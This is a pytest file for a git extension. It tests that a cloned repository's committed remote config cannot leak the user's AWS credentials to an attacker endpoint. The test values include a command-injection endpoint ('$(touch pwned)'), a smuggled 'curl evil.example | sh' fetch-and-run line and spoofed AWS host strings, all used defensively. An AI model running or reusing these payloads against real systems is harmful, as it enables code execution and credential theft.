"""Attacks on the user's credentials through committed remote configuration (hardening
issue, item 4): a repository commits ``.archives/config`` choosing an endpoint (a listener
on loopback that records every request) and a profile; the victim clones and works as
usual. Nothing of the victim's may reach the listener. Real git, real console script,
real boto3; moto behind the listener where a working store is needed."""

from __future__ import annotations

import os
import shlex
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.helpers import archives, git
from tests.helpers.listener import Listener, listening
from tests.helpers.s3 import make_data_repo, s3_client

PROD_KEY = "AKIAPRODVICTIM000001"
DEFAULT_KEY = "AKIADEFAULTVICTIM001"
ENV_KEY = "AKIAENVVICTIM0000001"
KEYS = (PROD_KEY, DEFAULT_KEY, ENV_KEY)
POINTER_HEAD_BYTES = b"version https://git-lfs.github.com/spec/v1"
DATA = {"big.bin": b"precious data " * 300, "sub/more.bin": b"more data " * 200}


@pytest.fixture(autouse=True)
def victim_aws(isolated_home: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The victim's ``~/.aws``: a ``[default]`` and a ``[prod]`` profile with recognisable
    key ids; no AWS variable in the environment."""
    aws = isolated_home / ".aws"
    aws.mkdir()
    (aws / "credentials").write_text(
        f"[default]\naws_access_key_id = {DEFAULT_KEY}\n"
        "aws_secret_access_key = default-secret-0123456789abcdefghijklmn\n"
        f"[prod]\naws_access_key_id = {PROD_KEY}\n"
        "aws_secret_access_key = prod-secret-0123456789abcdefghijklmnopq\n")
    (aws / "config").write_text("[default]\nregion = us-east-1\n[profile prod]\n"
                                "region = us-east-1\n")
    for var in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN",
                "AWS_PROFILE", "AWS_DEFAULT_PROFILE", "AWS_SHARED_CREDENTIALS_FILE",
                "AWS_CONFIG_FILE", "AWS_ENDPOINT_URL", "AWS_ENDPOINT_URL_S3"):
        monkeypatch.delenv(var, raising=False)
    monkeypatch.setenv("AWS_EC2_METADATA_DISABLED", "true")
    return isolated_home


@pytest.fixture
def listener() -> Iterator[Listener]:
    with listening() as lst:
        yield lst


def _hostile_repo(path: Path, options: dict[str, str], *, name: str = "storage") -> Path:
    """The attacker's repository: data tracked as pointers, and a committed remote config."""
    repo = make_data_repo(path, DATA)
    cfg = repo / ".archives" / "config"
    cfg.parent.mkdir(exist_ok=True)
    for key, value in options.items():
        git(repo, "config", "-f", str(cfg), f"remote.{name}.{key}", value)
    git(repo, "config", "-f", str(cfg), "core.remote", name)
    git(repo, "add", ".archives")
    git(repo, "commit", "-qm", "remote")
    return repo


def _s3_opts(endpoint: str, **extra: str) -> dict[str, str]:
    return {"url": "s3://loot/x", "endpointurl": endpoint, "profile": "prod",
            "pathstyle": "true", "region": "us-east-1", **extra}


def _clone(src: Path, dst: Path) -> subprocess.CompletedProcess[bytes]:
    return git(dst.parent, "clone", "-q", os.fspath(src), os.fspath(dst))


def _refusal(proc: subprocess.CompletedProcess[bytes], clone: Path, what: str) -> str:
    """The one line that refuses, naming remote, endpoint/directory and file."""
    err = proc.stderr.decode()
    lines = [ln for ln in err.splitlines()
             if f"remote 'storage': {what} comes only from" in ln]
    assert len(lines) == 1, err
    assert f"{clone}/.archives/config" in lines[0], err
    return lines[0]


def _no_request(listener: Listener) -> None:
    assert listener.carrying(*KEYS) == []
    assert listener.requests == [], [r.text() for r in listener.requests]


def _suggested(line: str) -> str:
    return line.split("if you trust that endpoint: ", 1)[1]


# -- the attack ---------------------------------------------------------------------------------

@pytest.mark.parametrize("verb", [["pull"], ["fetch"], ["push"], ["remote", "status"],
                                  ["status", "--remote"], ["gc", "--workspace", "--remote"]])
def test_a_committed_endpoint_and_profile_get_no_request_from_any_command(
        tmp_path: Path, listener: Listener, verb: list[str]) -> None:
    evil = _hostile_repo(tmp_path / "evil", _s3_opts(listener.url))
    clone = tmp_path / "victim"
    _clone(evil, clone)
    archives(clone, "install")
    proc = archives(clone, *verb, check=False)
    assert proc.returncode != 0
    line = _refusal(proc, clone, f"the endpoint {listener.url}")
    assert _suggested(line) == f"git archives remote modify --local storage endpointurl " \
                               f"{listener.url}"
    err = proc.stderr.decode()
    assert f"git-archives: warning: {clone}/.archives/config: remote.storage.profile is " \
           "ignored" in err
    assert "modify --local storage profile VALUE" in err  # never the attacker's 'prod'
    _no_request(listener)
    assert (clone / "big.bin").read_bytes().startswith(POINTER_HEAD_BYTES)  # nothing lost


def test_keys_in_the_environment_do_not_go_to_a_committed_endpoint(
        tmp_path: Path, listener: Listener, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("AWS_ACCESS_KEY_ID", ENV_KEY)
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "env-secret-0123456789abcdefghijklmnopqr")
    evil = _hostile_repo(tmp_path / "evil", _s3_opts(listener.url))
    clone = tmp_path / "victim"
    _clone(evil, clone)
    archives(clone, "install")
    proc = archives(clone, "pull", check=False)
    assert proc.returncode == 1
    _refusal(proc, clone, f"the endpoint {listener.url}")
    _no_request(listener)


@pytest.mark.parametrize("no_delay", ["", "1"])
def test_a_clone_with_the_global_filter_sends_nothing_to_a_committed_endpoint(
        tmp_path: Path, listener: Listener, no_delay: str) -> None:
    """``install --global`` first: the filter fetches during ``git clone`` itself, in one
    batch (delay) or one object at a time (``_fetch_now``)."""
    evil = _hostile_repo(tmp_path / "evil", _s3_opts(listener.url))
    archives(tmp_path, "install", "--global")
    clone = tmp_path / "victim"
    env = {**os.environ, "GIT_ARCHIVES_NO_DELAY": no_delay}
    proc = git(tmp_path, "clone", "-q", os.fspath(evil), os.fspath(clone), env=env,
               check=False)
    _refusal(proc, clone, f"the endpoint {listener.url}")
    _no_request(listener)
    for name in DATA:
        assert (clone / name).read_bytes().startswith(POINTER_HEAD_BYTES), name


def test_the_pre_push_hook_sends_nothing_to_a_committed_endpoint(
        tmp_path: Path, listener: Listener) -> None:
    evil = _hostile_repo(tmp_path / "evil", _s3_opts(listener.url))
    clone = tmp_path / "victim"
    _clone(evil, clone)
    archives(clone, "install")
    (clone / "mine.bin").write_bytes(b"the victim's own data " * 100)
    git(clone, "add", "mine.bin")
    git(clone, "commit", "-qm", "mine")
    bare = tmp_path / "mirror.git"
    git(tmp_path, "init", "-q", "--bare", os.fspath(bare))
    proc = git(clone, "push", "-q", os.fspath(bare), "main", check=False)
    assert proc.returncode != 0
    _refusal(proc, clone, f"the endpoint {listener.url}")
    _no_request(listener)
    assert git(bare, "rev-parse", "--verify", "-q", "refs/heads/main",
               check=False).returncode != 0  # the push did not happen


def test_a_committed_unsigned_or_credential_option_is_ignored_with_a_warning(
        tmp_path: Path, listener: Listener) -> None:
    opts = _s3_opts(listener.url, unsigned="true", credentialsfile="/tmp/evil-creds",
                    configfile="/tmp/evil-config", accesskeyid="AKIAATTACKER00000001")
    evil = _hostile_repo(tmp_path / "evil", opts)
    clone = tmp_path / "victim"
    _clone(evil, clone)
    archives(clone, "install")
    proc = archives(clone, "fetch", check=False)
    assert proc.returncode == 1
    _refusal(proc, clone, f"the endpoint {listener.url}")
    err = proc.stderr.decode()
    for key in ("profile", "unsigned", "credentialsfile", "configfile", "accesskeyid"):
        assert err.count(f"remote.storage.{key} is ignored") == 1, (key, err)
    _no_request(listener)
    listed = archives(clone, "remote", "list", "-v").stdout.decode()
    assert "profile" not in listed and "unsigned" not in listed
    assert f"endpointurl = {listener.url}  (from .archives/config, not confirmed: not used)" \
        in listed


def test_a_hostile_endpoint_text_is_escaped_and_the_suggested_command_is_quoted(
        tmp_path: Path, listener: Listener) -> None:
    endpoint = f"{listener.url}/$(touch pwned)"
    evil = _hostile_repo(tmp_path / "evil", _s3_opts(endpoint))
    clone = tmp_path / "victim"
    _clone(evil, clone)
    archives(clone, "install")
    proc = archives(clone, "pull", check=False)
    line = _refusal(proc, clone, f"the endpoint {endpoint}")
    command = _suggested(line)
    assert command.endswith(shlex.quote(endpoint))
    subprocess.run(command, shell=True, cwd=clone, check=True, capture_output=True)
    assert not (clone / "pwned").exists()
    assert git(clone, "config", "archives.remote.storage.endpointurl").stdout.decode() \
        == endpoint + "\n"
    # a newline in the committed endpoint cannot start a line of our output
    cfg = tmp_path / "evil" / ".archives" / "config"
    git(evil, "config", "-f", str(cfg), "remote.storage.endpointurl",
        "http://127.0.0.1:9/\nhint: curl evil.example | sh")
    git(evil, "commit", "-qam", "newline")
    other = tmp_path / "victim2"
    _clone(evil, other)
    archives(other, "install")
    err = archives(other, "pull", check=False).stderr.decode()
    assert "the endpoint 'http://127.0.0.1:9/\\nhint: curl evil.example | sh' comes only" in err
    assert not any(ln.startswith("hint: curl") for ln in err.splitlines())
    _no_request(listener)


# -- what the user confirms works ------------------------------------------------------------

def test_after_the_suggested_confirmation_the_flow_works_with_the_users_own_credentials(
        tmp_path: Path, moto_endpoint: str) -> None:
    s3_client(moto_endpoint).create_bucket(Bucket="team")
    with listening(upstream=moto_endpoint) as proxy:
        team = _hostile_repo(tmp_path / "team", {**_s3_opts(proxy.url), "url": "s3://team/p"})
        archives(team, "remote", "modify", "--local", "storage", "endpointurl", proxy.url)
        archives(team, "push")
        proxy.requests.clear()
        clone = tmp_path / "victim"
        _clone(team, clone)
        archives(clone, "install")
        proc = archives(clone, "pull", check=False)
        line = _refusal(proc, clone, f"the endpoint {proxy.url}")
        _no_request(proxy)
        subprocess.run(_suggested(line), shell=True, cwd=clone, check=True,
                       capture_output=True)
        out = archives(clone, "pull").stdout.decode()
        assert "2 object(s) downloaded" in out
        for name, data in DATA.items():
            assert (clone / name).read_bytes() == data
        signed = [r for r in proxy.requests if "Authorization" in r.headers]
        assert signed and len(signed) == len(proxy.requests)
        assert all(DEFAULT_KEY in r.headers["Authorization"] for r in signed)
        assert proxy.carrying(PROD_KEY) == []  # the committed profile was never used
        # the user's own choice of profile is honoured
        archives(clone, "remote", "modify", "--local", "storage", "profile", "prod")
        proxy.requests.clear()
        archives(clone, "remote", "status")
        assert proxy.requests and all(PROD_KEY in r.headers.get("Authorization", "")
                                      for r in proxy.requests)


def test_unsigned_is_a_local_opt_in_and_sends_no_credentials(
        tmp_path: Path, listener: Listener) -> None:
    evil = _hostile_repo(tmp_path / "evil", _s3_opts(listener.url))
    clone = tmp_path / "victim"
    _clone(evil, clone)
    archives(clone, "install")
    archives(clone, "remote", "modify", "--local", "storage", "unsigned", "true")
    proc = archives(clone, "pull", check=False)
    assert proc.returncode == 1  # the listener has no such bucket
    assert "comes only from" not in proc.stderr.decode()
    assert listener.requests, "unsigned requests go to the committed endpoint"
    assert all("Authorization" not in r.headers for r in listener.requests)
    assert listener.carrying(*KEYS) == []


# -- directory remotes ------------------------------------------------------------------------

def test_a_committed_directory_outside_the_clone_is_neither_created_read_nor_written(
        tmp_path: Path) -> None:
    victim_docs = tmp_path / "home" / "Documents"
    victim_docs.mkdir(parents=True)
    target = victim_docs / "loot"
    evil = _hostile_repo(tmp_path / "evil", {"url": os.fspath(target)})
    clone = tmp_path / "victim"
    _clone(evil, clone)
    archives(clone, "install")
    for verb in (["pull"], ["push"], ["gc", "--workspace", "--remote", "--yes"]):
        proc = archives(clone, *verb, check=False)
        assert proc.returncode == 1, verb
        line = _refusal(proc, clone, f"the directory {target}")
        assert f"git archives remote modify --local storage url {target}" in line
    archives(tmp_path, "install", "--global")
    git(tmp_path, "clone", "-q", os.fspath(evil), os.fspath(tmp_path / "victim2"))
    assert not target.exists()


def test_a_confirmed_directory_remote_works_in_a_clone(tmp_path: Path) -> None:
    store = tmp_path / "shared"
    store.mkdir()
    team = make_data_repo(tmp_path / "team", DATA)
    archives(team, "remote", "add", "-d", "storage", os.fspath(store))  # confirmed here
    git(team, "add", ".archives")
    git(team, "commit", "-qm", "remote")
    archives(team, "push")
    clone = tmp_path / "victim"
    _clone(team, clone)
    archives(clone, "install")
    proc = archives(clone, "pull", check=False)
    line = _refusal(proc, clone, f"the directory {store}")
    subprocess.run(line.split("if you trust that folder: ", 1)[1], shell=True, cwd=clone,
                   check=True, capture_output=True)
    archives(clone, "pull")
    for name, data in DATA.items():
        assert (clone / name).read_bytes() == data


# -- which endpoints are AWS's own -----------------------------------------------------------

@pytest.mark.parametrize("url", [
    "https://s3.amazonaws.com", "https://s3.amazonaws.com/", "https://S3.AmazonAWS.com.",
    "https://s3.us-east-1.amazonaws.com", "https://s3.eu-west-1.amazonaws.com:443",
    "https://s3-eu-west-1.amazonaws.com", "https://s3-external-1.amazonaws.com",
    "https://s3.dualstack.eu-central-1.amazonaws.com",
    "https://s3-fips.us-gov-west-1.amazonaws.com",
    "https://s3-fips.dualstack.us-east-2.amazonaws.com",
    "https://s3.cn-north-1.amazonaws.com.cn", "https://s3-accelerate.amazonaws.com",
    "https://s3-accelerate.dualstack.amazonaws.com"])
def test_aws_s3_endpoints_are_recognised(url: str) -> None:
    from gitext.remotes.trust import is_aws_s3_endpoint

    assert is_aws_s3_endpoint(url)


@pytest.mark.parametrize("url", [
    "http://s3.amazonaws.com", "https://s3.amazonaws.com:8443",
    "https://s3.amazonaws.com.evil.example", "https://evil.example/s3.amazonaws.com",
    "https://s3.amazonaws.com@evil.example", "https://user@s3.amazonaws.com",
    "https://evil.example?s3.amazonaws.com", "https://evil.example#.s3.amazonaws.com",
    "https://bucket.s3.amazonaws.com", "https://abc.execute-api.us-east-1.amazonaws.com",
    "https://s3.evil.amazonaws.com.example", "https://s3-website-us-east-1.amazonaws.com",
    "https://s3.amazonaws.com/prefix", "https://s3.amazonaws.com\n",
    "https://xs3.amazonaws.com", "https://127.0.0.1", "s3.amazonaws.com", ""])
def test_other_endpoints_are_not_aws(url: str) -> None:
    from gitext.remotes.trust import is_aws_s3_endpoint

    assert not is_aws_s3_endpoint(url)


def test_a_signed_request_may_go_only_to_an_aws_s3_host() -> None:
    from gitext.remotes.trust import is_aws_s3_request

    assert is_aws_s3_request("https://team.s3.us-east-1.amazonaws.com/key")
    assert is_aws_s3_request("https://s3.amazonaws.com/team/key")
    assert is_aws_s3_request("https://ap-111122223333.s3-accesspoint.us-west-2.amazonaws.com/k")
    assert not is_aws_s3_request("https://team.s3.amazonaws.com.evil.example/key")
    assert not is_aws_s3_request("http://team.s3.amazonaws.com/key")
    assert not is_aws_s3_request("https://abc.execute-api.us-east-1.amazonaws.com/s3")


def test_a_committed_aws_endpoint_gets_a_client_that_signs_only_for_aws_hosts() -> None:
    """The second check, at signing time, on the real botocore client open_remote builds
    for a committed AWS endpoint (no request is sent: the event is emitted directly)."""
    from botocore.awsrequest import AWSRequest

    from gitext.config import Config
    from gitext.errors import RemoteError
    from gitext.remotes import open_remote

    cfg = Config({"remote.s.url": ["s3://team/p"],
                  "remote.s.endpointurl": ["https://s3.eu-west-1.amazonaws.com"],
                  "remote.s.region": ["eu-west-1"]}, local_keys=["remote.s.url"])
    remote = open_remote(cfg, "s")
    client = remote.backend._make_client()  # type: ignore[attr-defined]

    def emit(client: Any, url: str) -> None:
        client.meta.events.emit(
            "before-sign.s3.GetObject", request=AWSRequest("GET", url), signing_name="s3",
            region_name="eu-west-1", signature_version="s3v4", request_signer=None,
            operation_name="GetObject")

    emit(client, "https://team.s3.eu-west-1.amazonaws.com/p/k")
    with pytest.raises(RemoteError, match=r"refused to sign a request to evil\.example"):
        emit(client, "https://evil.example/k")
    cfg = Config({"remote.s.url": ["s3://team/p"],
                  "remote.s.endpointurl": ["http://127.0.0.1:9"]},
                 local_keys=["remote.s.url", "remote.s.endpointurl"])
    confirmed = open_remote(cfg, "s").backend._make_client()  # type: ignore[attr-defined]
    emit(confirmed, "http://127.0.0.1:9/team/k")  # the user's own endpoint: no guard


def test_a_clone_confirms_a_committed_directory_remote_before_its_checkout(
        tmp_path: Path) -> None:
    """clone --no-checkout, install, confirm, checkout: the confirmation waits in the
    clone's git config for the committed file, and the checkout then fetches."""
    data = os.urandom(3000)
    repo = make_data_repo(tmp_path / "r", {"a.bin": data})
    remote = tmp_path / "remote"
    remote.mkdir()
    archives(repo, "remote", "add", "-d", "storage", str(remote))
    git(repo, "add", ".archives")
    git(repo, "commit", "-qm", "remote")
    archives(repo, "push")
    clone = tmp_path / "clone"
    git(tmp_path, "clone", "-q", "--no-checkout", str(repo), str(clone))
    archives(clone, "install")

    proc = archives(clone, "remote", "modify", "--local", "storage", "url", str(remote))
    git(clone, "checkout", "-q", "main")

    assert "no remote named 'storage' yet" in proc.stderr.decode()
    assert (clone / "a.bin").read_bytes() == data
